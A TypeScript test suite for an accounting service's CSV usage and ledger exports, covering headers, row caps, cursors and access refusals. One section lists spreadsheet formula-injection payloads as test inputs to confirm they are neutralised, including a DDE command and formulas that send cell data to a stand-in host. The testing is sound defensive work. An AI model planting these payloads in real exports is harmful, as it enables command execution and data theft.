import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Accounting, type User } from '../harness/accounting.ts';
import { download, parseCsv } from './csv-text.ts';
import { daysAgo, insertUsage, someUsage, sumsOf, usageRow } from './usage-rows.ts';

let service: Accounting;
let admin: User;
beforeAll(async () => {
  service = await Accounting.start();
  admin = await service.user({ role: 'admin' });
});
afterAll(() => service.stop());

const fetchCsv = ({ token }: User, path: string, headers: Record<string, string> = { accept: 'text/csv' }) =>
  download(service.url + path, { authorization: `Bearer ${token}`, ...headers });

/** Lines by the names of the header. */
const namedRows = (text: string) => {
  const [header = [], ...lines] = parseCsv(text);
  return lines.map((line) => Object.fromEntries(header.map((name, n) => [name, line[n]])));
};

describe('A CSV', () => {
  it('is chosen by Accept or by format, which wins, and told as a file', async () => {
    const path = '/api/usage/report';
    for (const [query, accept, type] of [
      ['', 'text/csv', 'text/csv'],
      ['?format=csv', 'application/json', 'text/csv'],
      ['?format=json', 'text/csv', 'application/json'],
      ['', '*/*', 'application/json'],
    ] as const) {
      const { headers } = await fetchCsv(admin, path + query, { accept });
      expect(String(headers['content-type']).split(';')[0]).toBe(type);
    }
    const { headers, text, trailers } = await fetchCsv(admin, `${path}?groupBy=model`);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="usage-report.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(text).toBe('"model","records","credits","writtenOffCredits","inputUnits","outputUnits"\r\n');
    expect(trailers).toEqual({ 'x-complete': 'true', 'x-next-cursor': '' });
  });

  it('of a report has every group, whatever the page size of JSON, and says what the rows sum to', async () => {
    const users = await Promise.all([service.user(), service.user()]);
    const rows = someUsage(
      users.map(({ userId }) => userId),
      5,
      300,
    );
    await insertUsage(service.db, rows);
    const dimensions = ['user', 'day', 'model'] as const;
    const { text, trailers } = await fetchCsv(
      admin,
      `/api/usage/report?groupBy=${dimensions.join()}&startDate=${daysAgo(5)}&endDate=${daysAgo(1)}&limit=1`,
    );
    const asText = (list: readonly object[]) =>
      list.map((row) => JSON.stringify(Object.values(row).map((value) => String(value ?? '')))).sort();
    const said = namedRows(text).filter(({ userId }) => users.some((user) => user.userId === userId));
    expect(asText(said)).toEqual(asText(sumsOf(rows, dimensions)));
    expect(trailers['x-complete']).toBe('true');
  });

  it('of the own usage has every own row once, newest first, with numbers as numbers', async () => {
    const [alice, bob] = await Promise.all([service.user(), service.user()]);
    const rows = Array.from({ length: 4100 }, (_, n) =>
      usageRow({
        user_id: alice.userId,
        credits: n - 50,
        is_correction: true,
        timestamp: `${daysAgo(1)}T10:00:00.00000${n % 7}Z`,
      }),
    );
    await insertUsage(service.db, [...rows, usageRow({ user_id: bob.userId, timestamp: `${daysAgo(1)}T10:00:00Z` })]);
    const { text, trailers, headers } = await fetchCsv(alice, '/api/usage/records?limit=1');
    const lines = namedRows(text);
    expect(headers['content-disposition']).toBe('attachment; filename="usage.csv"');
    expect(trailers['x-complete']).toBe('true');
    expect(new Set(lines.map(({ userId }) => userId))).toEqual(new Set([alice.userId]));
    expect(lines.map(({ credits }) => Number(credits)).sort((a, b) => a - b)).toEqual(
      rows.map(({ credits }) => credits),
    );
    expect(text).toContain(',-50,');
    expect(text).not.toContain('"-50"');
    const ids = lines.map(({ id }) => Number(id));
    expect(new Set(ids).size).toBe(rows.length);
    const any = await fetchCsv(admin, `/api/usage/records/${alice.userId}`);
    expect(any.text).toBe(text);
  });

  it('of the ledger has the own transactions, newest first', async () => {
    const alice = await service.user({ credits: 100 });
    await service.settle(alice, await service.held(alice, 10), 4);
    const { text, headers, trailers } = await fetchCsv(alice, '/api/credits/transactions?limit=1');
    expect(headers['content-disposition']).toBe('attachment; filename="ledger.csv"');
    expect(namedRows(text).map(({ sequence, type, availableChange }) => [sequence, type, availableChange])).toEqual([
      ['3', 'settle', '6'],
      ['2', 'hold', '-10'],
      ['1', 'grant', '100'],
    ]);
    expect(trailers['x-complete']).toBe('true');
  });

  it('ends at 100,000 rows, says so, and goes on from the cursor it names', async () => {
    const alice = await service.user();
    await service.db.query(
      `INSERT INTO usage_logs (user_id, payer_id, service, operation, credits, "timestamp")
       SELECT $1, $1, 'chat-proxy', 'chat', n, ledger_now() - n * interval '1 second' FROM generate_series(1, 100003) n`,
      [alice.userId],
    );
    const first = await fetchCsv(alice, '/api/usage/records');
    expect(first.trailers['x-complete']).toBe('false');
    expect(parseCsv(first.text)).toHaveLength(100_001);
    const rest = await fetchCsv(alice, `/api/usage/records?cursor=${first.trailers['x-next-cursor']}`);
    expect(rest.trailers).toEqual({ 'x-complete': 'true', 'x-next-cursor': '' });
    expect(namedRows(rest.text).map(({ credits }) => credits)).toEqual(['100001', '100002', '100003']);
  });

  it('is refused with the status of the refusal, before the file begins', async () => {
    for (const [path, status] of [
      ['/api/usage/report?groupBy=password', 400],
      ['/api/usage/records?cursor=x', 400],
      [`/api/usage/records/all?startDate=${daysAgo(-1)}`, 200],
    ] as const)
      expect((await fetchCsv(admin, path)).status).toBe(status);
    const enduser = await service.user();
    const refused = await fetchCsv(enduser, '/api/usage/records/all');
    expect({ status: refused.status, type: refused.headers['content-type'] }).toEqual({
      status: 403,
      type: 'application/problem+json; charset=utf-8',
    });
  });
});

describe('A text in a CSV that a spreadsheet would run', () => {
  const FORMULAS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\n@x',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(A1)',
    '\ufe661+1',
    `=cmd|'/C calc'!A0`,
    '=HYPERLINK("http://x.test?a="&A1,"ok")',
    '=IMPORTXML(CONCAT("http://x.test?",A1),"//a")',
    '"=1+1',
    '";=1+1;"',
    'x";=1+1',
    'a,=1+1',
    'a\r\n=1+1',
    'a;=1+1',
  ];
  /** What a cell begins with, once blanks are gone and forms are folded. */
  const startOf = (cell: string) =>
    cell
      .normalize('NFKC')
      .replace(/^[\s\p{C}]+/u, '')
      .charAt(0);

  it.each(FORMULAS)('%j is text, in one cell, and otherwise as it was', async (formula) => {
    const alice = await service.user();
    await insertUsage(service.db, [
      usageRow({ user_id: alice.userId, model: formula, service: 'chat', timestamp: `${daysAgo(1)}T10:00:00Z` }),
    ]);
    for (const path of ['/api/usage/report/own?groupBy=model', '/api/usage/records']) {
      const { text } = await fetchCsv(alice, path);
      const [row] = namedRows(text);
      const cell = row?.['model'] ?? '';
      expect('=+-@').not.toContain(startOf(cell) || 'x');
      expect([formula, `'${formula}`]).toContain(cell);
      // Quoted, so that it stays one cell also where a semicolon separates.
      expect(text).toContain(`"${cell.replaceAll('"', '""')}"`);
    }
  });

  it('keeps every other character as it is', async () => {
    const alice = await service.user();
    const names = ['model-ä', '漢字', '🙂', `it's`, 'a"b', '3-1', 'null', 'true'];
    await insertUsage(
      service.db,
      names.map((model) => usageRow({ user_id: alice.userId, model, timestamp: `${daysAgo(1)}T10:00:00Z` })),
    );
    const { text } = await fetchCsv(alice, '/api/usage/report/own?groupBy=model');
    const said = namedRows(text).map(({ model }) => model);
    expect(said).toHaveLength(names.length);
    expect(new Set(said)).toEqual(new Set(names));
  });
});

describe('Usage row by row', () => {
  it('comes in pages that lose and double nothing while more is written', async () => {
    const alice = await service.user();
    const times = Array.from({ length: 60 }, (_, n) => `${daysAgo(1)}T10:00:00.00000${n % 3}Z`);
    await insertUsage(
      service.db,
      times.map((timestamp) => usageRow({ user_id: alice.userId, timestamp })),
    );
    const before = await service.db.query('SELECT id FROM usage_logs WHERE user_id = $1', [alice.userId]);
    const found: number[] = [];
    for (let cursor: unknown = ''; cursor !== null; ) {
      const next = cursor === '' ? '' : `&cursor=${String(cursor)}`;
      const { body } = service.expect(
        200,
        await service.call('GET', `/api/usage/records?limit=7${next}`, { token: alice.token }),
      );
      found.push(...(body['records'] as { id: number }[]).map(({ id }) => id));
      cursor = body['nextCursor'];
      await insertUsage(service.db, [usageRow({ user_id: alice.userId, timestamp: `${daysAgo(0)}T00:00:00Z` })]);
    }
    expect(found.sort((a, b) => a - b)).toEqual(before.rows.map(({ id }) => Number(id)).sort((a, b) => a - b));
  });

  it('shows only what its period names, and what the contract names', async () => {
    const alice = await service.user();
    const at = (timestamp: string, credits: number) => usageRow({ user_id: alice.userId, timestamp, credits });
    await insertUsage(service.db, [
      at(`${daysAgo(4)}T23:59:59.999999Z`, 1),
      at(`${daysAgo(3)}T00:00:00Z`, 2),
      at(`${daysAgo(3)}T23:59:59.999999Z`, 3),
      at(`${daysAgo(2)}T00:00:00Z`, 4),
    ]);
    const day = daysAgo(3);
    const { body } = await service.call('GET', `/api/usage/records?startDate=${day}&endDate=${day}`, {
      token: alice.token,
    });
    const records = body['records'] as Record<string, unknown>[];
    expect(records.map(({ credits }) => credits)).toEqual([3, 2]);
    expect(Object.keys(records[0] ?? {}).sort()).toEqual(
      'chatflowId credits holdId id inputTokens isCorrection model operation outcome outputTokens reason service timestamp transactionId userId workspaceId writtenOffCredits'.split(
        ' ',
      ),
    );
  });
});
